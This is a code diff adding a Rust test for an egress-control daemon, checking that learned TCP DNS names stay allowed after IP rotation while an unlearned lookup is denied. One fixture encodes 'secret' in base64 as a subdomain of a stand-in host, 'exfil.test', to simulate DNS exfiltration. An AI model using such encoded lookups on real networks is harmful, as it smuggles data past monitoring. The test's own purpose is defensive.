@@ -384,3 +384,36 @@ fn a_query_behind_an_ipv6_extension_header_is_still_judged() {
     assert_eq!(query.len(), 1, "{}", dump(&events));
     assert_eq!(query[0]["action"], "denied");
 }
+
+#[test]
+fn over_tcp_names_are_bound_and_queries_judged_too() {
+    if !root_or_skip("over_tcp_names_are_bound_and_queries_judged_too") {
+        return;
+    }
+    let daemon = Daemon::start();
+    let w = World::new(28, &["127.0.28.1", "127.0.28.2"]);
+    w.a("api.llm.test", 30, &["127.0.28.1"]);
+    let dial = |name: &str| format!("dial-tcp:{}:{name}:{}", w.resolver, w.port);
+    teach(&daemon, "read-only", &[dial("api.llm.test")]);
+    assert_eq!(w.accepted("127.0.28.1"), 3);
+    let egress = entries(&daemon.baseline("read-only"), "egress");
+    assert!(egress.contains(&format!("tcp api.llm.test port {}", w.port)), "{egress:?}");
+    daemon.set_mode("read-only", "enforce");
+    w.a("api.llm.test", 30, &["127.0.28.2"]);
+    let out = run(&daemon, "tcp-rotated", "read-only", &[dial("api.llm.test")]);
+    assert!(out.status.success(), "no false kill: {}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(w.accepted("127.0.28.2"), 1, "bound from the answer over TCP");
+
+    let leak = "c2VjcmV0.exfil.test";
+    let out = run(&daemon, "tcp-leak", "read-only", &[dial(leak)]);
+    assert_eq!(out.status.code(), Some(99), "{}", String::from_utf8_lossy(&out.stderr));
+    let leaked = w.dns.queries().iter().any(|(n, _)| n.contains("exfil"));
+    assert!(!leaked, "the query never reached it");
+    let events = daemon.events_of("tcp-leak", WAIT);
+    // Names are reported lowercase; the dropped segment may be sent again (and refused
+    // again) before the process dies.
+    let query =
+        of_kind(&events, "dns", |e| e["op"] == "query" && e["name"] == "c2vjcmv0.exfil.test");
+    assert!(!query.is_empty(), "{}", dump(&events));
+    assert!(query.iter().all(|q| q["action"] == "denied"), "{}", dump(&events));
+}
